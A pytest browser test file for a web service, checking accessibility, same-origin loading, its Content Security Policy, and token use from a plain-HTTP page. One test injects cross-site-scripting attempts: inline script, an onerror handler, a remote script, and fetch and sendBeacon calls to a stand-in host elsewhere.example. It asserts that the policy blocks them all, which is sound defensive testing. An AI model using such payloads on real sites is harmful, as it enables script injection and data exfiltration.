"""The landing page, the API page and the refusal, as a browser shows them."""

from typing import Any

import pytest

from tests.page.browser import DESKTOP, PHONE, Browser, browsing, missing
from tests.page.recorder import recording
from tests.service.running import Running

PATHS = ("/about", "/api", "/v1/tokens")
DEVICES: dict[str, dict[str, Any]] = {"desktop": DESKTOP, "phone": PHONE}


@pytest.mark.parametrize("device", DEVICES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_pages_meet_accessibility_rules_and_load_from_their_own_origin_alone(
    browser: Browser, server: Running, elsewhere: list[str], device: str, scheme: str
) -> None:
    with recording(server.port) as recorder, browser.page(DEVICES[device], colorScheme=scheme) as page:
        for path in PATHS:
            page.open(recorder.url + path)
            assert page.see("heading")
            assert page.faults() == []
            assert page.overflow() <= 0
        page.open(recorder.url + "/")
        page.click("link", "The API, in words")
        assert page.see("heading", "API of Acme")
        paths = {request.target for request in recorder.requests()}
    assert [line for line in page.said if "401" not in line] == []
    assert paths == {"/", "/site.css", *PATHS}
    assert elsewhere == []


def test_a_fault_would_be_found(browser: Browser, server: Running) -> None:
    """The check itself: a picture without words and pale letters are what it has to find."""
    with browser.page() as page:
        page.open(server.url + "/about")
        page.evaluate("document.querySelector('main').innerHTML = '<img src=\"data:,\"><p>pale</p>'")
        # by the object model, which the page's policy lets through
        page.evaluate("document.querySelector('main p').style.color = '#cccccc'")
        assert {fault["id"] for fault in page.faults()} >= {"image-alt", "color-contrast"}


def test_the_policy_stops_what_does_not_lie_here(browser: Browser, server: Running, elsewhere: list[str]) -> None:
    """A script in the page, one of another host, a style in the page, a request elsewhere, and a frame around it."""
    attempts = """async () => {
        window.ran = [];
        const add = (html) => document.body.append(document.createRange().createContextualFragment(html));
        add("<script>window.ran.push('inline')</" + "script>");
        add("<img src='x' onerror=\\"window.ran.push('handler')\\">");
        add("<script src='http://elsewhere.example/x.js'></" + "script>");
        try { await fetch("http://elsewhere.example/"); window.ran.push("fetch"); } catch { /* as it should */ }
        // later: while a debugger evaluates, no policy forbids it
        setTimeout(() => { try { new Function("window.ran.push('eval')")(); } catch { /* as it should */ } }, 10);
        navigator.sendBeacon("http://elsewhere.example/", "x");
        await new Promise((done) => setTimeout(done, 300));
        return window.ran;
    }"""
    with browser.page() as page:
        page.open(server.url + "/about")
        assert page.evaluate(f"({attempts})()") == []
        assert page.evaluate("self.crossOriginIsolated") is True
        framed = (
            "new Promise((done) => { const it = document.createElement('iframe'); it.src = value;"
            "it.onload = () => { try { done(it.contentDocument.body.innerText) } catch { done('') } };"
            "document.body.append(it) })"
        )
        page.open("about:blank")
        assert "Acme" not in page.evaluate(framed.replace("value", repr(server.url + "/about")))
    assert elsewhere == []


def test_what_goes_elsewhere_would_be_noted(browser: Browser, elsewhere: list[str]) -> None:
    """The check itself, on a page without a policy."""
    with browser.page() as page:
        page.open("data:text/html,<title>none</title>")
        page.evaluate("fetch('http://elsewhere.example/').catch(() => 0)")
    assert elsewhere == ["elsewhere.example"]


def test_a_page_on_plain_http_cannot_use_a_long_lived_token(server: Running) -> None:
    """A same-origin GET there has neither Origin nor Sec-Fetch-Site; whatever the page says of itself."""
    if (reason := missing()) is not None:
        pytest.skip(reason)
    attempts = """async (token) => {
        const found = [];
        for (const more of [{}, {"Accept-Language": "*"}, {"Accept-Language": ""}, {"User-Agent": "curl/8"}]) {
            const headers = {...more, Authorization: `Bearer ${token}`};
            const reply = await fetch("/v1/tokens", {headers, referrerPolicy: "no-referrer", credentials: "omit"});
            found.push(reply.status);
        }
        return found;
    }"""
    with browsing("--host-resolver-rules=MAP lan.example 127.0.0.1") as chromium, chromium.page() as page:
        page.open(f"http://lan.example:{server.port}/about")
        assert page.evaluate("isSecureContext") is False
        assert page.evaluate(f"({attempts})({server.admin!r})") == [403] * 4
        own = server("POST", "/v1/sessions", {"collection": "main", "person": "a"}, token=server.token("session:main"))
        ask = f"fetch('/v1/version', {{headers: {{Authorization: 'Bearer {own.json()['token']}'}}}})"
        assert page.evaluate(f"{ask}.then((reply) => reply.status)") == 200
